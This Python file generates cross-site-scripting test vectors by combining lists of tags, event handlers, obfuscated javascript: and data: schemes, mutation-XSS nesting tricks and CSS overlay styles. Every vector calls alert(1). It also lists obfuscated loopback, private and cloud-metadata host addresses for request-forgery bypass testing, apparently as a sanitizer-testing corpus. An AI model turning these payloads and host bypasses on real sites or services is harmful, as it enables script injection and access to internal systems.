"""Our own vectors of cross-site scripting, made by combination; each calls alert if it works."""

from collections.abc import Iterator
from itertools import product

_TAGS = [
    "a", "audio", "b", "body", "button", "custom-x", "details open", "div", "form", "iframe",
    "img", "input autofocus", "marquee", "math", "object", "select autofocus", "style", "svg",
    "table", "textarea autofocus", "video", "svg><animate", "svg><image", "math><mtext",
]  # fmt: skip
_HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart",
    "onbegin", "onpointerrawupdate", "ONERROR", "onerror\x0b", "on\0error", "oneRRor\n", "/onload",
]  # fmt: skip
_SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "\x1fjavascript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)", "javascript&#58alert(1)",
    "&#0000106&#0000097vascript:alert(1)", "java&Tab;script&colon;alert(1)",
    "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "DATA:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "javascript://%0aalert(1)", "http:javascript:alert(1)", "blob:x", "filesystem:x", "file:///x",
    "view-source:x", "feed:javascript:alert(1)", "jar:javascript:alert(1)!/", "\u00a0javascript:alert(1)",
    "javascript\u200b:alert(1)", "mhtml:x", "wyciwyg:x",
]  # fmt: skip
_PLACES = [
    '<a href="{}">x</a>', "<a href='{}'>x</a>", '<img src="{}">', '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>',
    '<object data="{}"></object>', '<embed src="{}">', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>', '<base href="{}">', '<link rel="stylesheet" href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">', '<area href="{}">', '<video poster="{}"></video>',
    '<table background="{}"><tr><td background="{}">x</td></tr></table>', '<input type="image" src="{}">',
    '<svg><use href="{}#x"/></svg>', '<svg><script href="{}"></script></svg>', '<isindex action="{}">',
    '<svg><animate attributeName="href" values="{}"/></svg>', '<img srcset="{} 1x">',
    '<div style="background:url({})">x</div>', '<a href="x" ping="{}">x</a>', '<blockquote cite="{}">x</blockquote>',
]  # fmt: skip
_OUTER = ["math", "svg", "svg><foreignObject", "math><annotation-xml encoding=text/html",
          "math><mtext><table><mglyph", "table", "form><math", "select", "template", "p"]  # fmt: skip
_INNER = ["style", "noscript", "title", "textarea", "xmp", "iframe", "noembed", "noframes",
          "template", "script", "desc", "plaintext", "option"]  # fmt: skip
_TAILS = [
    "<a title='</{i}><img src=1 onerror=alert(1)>'>", "<!--</{i}><img src=1 onerror=alert(1)>-->",
    "<img title='</{i}><script>alert(1)</script>'>", "</{i}/><svg onload=alert(1)>",
    "<![CDATA[</{i}><img src=1 onerror=alert(1)>]]>", "<p id='</{i}><img src onerror=alert(1)>'>",
    "&lt;/{i}&gt;&lt;img src=1 onerror=alert(1)&gt;",
]  # fmt: skip
_SINGLE = [
    "<script>alert(1)</script>", "<script/src=data:,alert(1)></script>", "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script\x0d>alert(1)</script\t\n bar>", "<SCRIPT SRC=//x.test></SCRIPT>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=1 onerror=alert(1)&gt;'></iframe>",
    "<style>@import 'javascript:alert(1)';*{x:expression(alert(1))}</style>",
    "<div style='width:expression(alert(1))'>x</div>", "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x.xml#y)'>x</div>", "<div style=\"x:\\65xpression(alert(1))\">x</div>",
    "<base target='_top'><a href='http://x.test'>x</a>", "<form id=x></form><button form=x>x</button>",
    "<img name=body><form name=cookie><input name=parentNode></form>", "<a id=x><a id=x name=y href=z>",
    "<svg><style><img/src=1 onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<details><summary>x</summary><img src=1 onerror=alert(1)></details>", "<img src=`x`onerror=alert(1)>",
    "<x/onclick=alert(1)>x</x>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<a href=\"http://x.test\" onclick=alert(1) style=\"position:fixed;inset:0\">x</a>", "<!--><img src=1 onerror=alert(1)>-->",
    "<!--!><img src=1 onerror=alert(1)>--!>", "</title><script>alert(1)</script>", "\"><script>alert(1)</script>",
    "<img title=\"</style><script>alert(1)</script>\">", "<a title=\"--><script>alert(1)</script>\">x</a>",
    "<portal src=javascript:alert(1)>", "<fencedframe src=javascript:alert(1)>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>x</button>", "<input type=hidden accesskey=x onclick=alert(1)>",
]  # fmt: skip

OVERLAYS = [
    "position:fixed", "position: absolute; top:0", "POSITION:sticky", "z-index:2147483647",
    "-webkit-text-security:disc", "opacity:0", "inset:0", "transform:scale(99)", "content:'x'",
    "animation:x 1s", "filter:invert(1)", "cursor:none", "pointer-events:none", "clip-path:circle(0)",
    "background:url(http://x.test/p)", "background-image:image-set('http://x.test/p' 1x)",
    "list-style:url(http://x.test/p)", "border-image:url(http://x.test/p)", "font-family:url(x)",
    "color:var(--x)", "--x:url(http://x.test)", "width:calc(100% * 99)", "width:attr(title)",
    "p\\6fsition:fixed", "pos/**/ition:fixed", "background:\\75rl(http://x.test)", "margin-top:-999px",
    "margin:0 0 0 -999px", "text-indent:-9999px", "color:red;}body{display:none", "src:local(x)",
    "font-family:'a;position:fixed", "display:contents", "display:flex", "color:red\\;position:fixed",
    "@import url(x)", "color:expression(alert(1))", "unicode-bidi:bidi-override", "mask:url(x)",
    "width:10px;position:fi\\\nxed", "behavior:url(#x)", "order:-1", "inset-block:0", "all:unset",
]  # fmt: skip


def vectors() -> Iterator[str]:
    """All of them, each a whole piece of HTML."""
    for tag, handler in product(_TAGS, _HANDLERS):
        yield f"<{tag} src=1 {handler}=alert(1)>x"
    for scheme, place in product(_SCHEMES, _PLACES):
        yield place.replace("{}", scheme)
    for outer, inner, tail in product(_OUTER, _INNER, _TAILS):
        yield f"<{outer}><{inner}>" + tail.replace("{i}", inner)
    for style in OVERLAYS:
        yield f'<div style="{style}">x</div>'
    yield from _SINGLE


E01_HOSTS = [
    "127.0.0.1", "127.1", "127.0.0.1.", "127.255.255.254", "localhost", "localhost.", "LOCALHOST",
    "2130706433", "0x7f000001", "0x7f.0.0.1", "0x7f.1", "0177.0.0.1", "017700000001", "127.0.1",
    "0", "0.0.0.0", "00.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
    "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[64:ff9b::127.0.0.1]", "[64:ff9b:1::7f00:1]",
    "[2002:7f00:1::]", "[2002:7f00:0001::1]", "[2001:0:7f00:1::]", "[fe80::1]", "[fe80::1%25lo]",
    "[fe80::1%lo]", "[fc00::1]", "[fd00:ec2::254]", "[ff02::1]", "[2001:db8::1]", "[100::1]",
    "10.0.0.1", "172.16.0.1", "172.31.255.255", "192.168.0.1", "169.254.169.254", "169.254.1.1",
    "100.64.0.1", "100.100.100.200", "168.63.129.16", "192.0.0.1", "198.18.0.1", "192.88.99.1",
    "224.0.0.1", "239.255.255.250", "240.0.0.1", "255.255.255.255", "0.1.2.3", "192.0.2.1",
    "user@127.0.0.1", "user:pass@127.0.0.1", "@127.0.0.1", "127.0.0.1@127.0.0.1",
    "example.test@127.0.0.1", "127.0.0.1#@example.test", "127.0.0.1%00.example.test",
    "%31%32%37.0.0.1", "127%2e0.0.1", "①②⑦.⓪.⓪.①", "127。0。0。1", "１２７.0.0.1", "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
    "127.0.0.1\\@example.test", "127.0.0.1 ", "127.0.0.1\t", "127.0.0.1\r\nX: y", "", "[", "[::1",
    "1.2.3.4.5", "example.test.0x1", "a..b", "-a.test", "a" * 300,
]  # fmt: skip
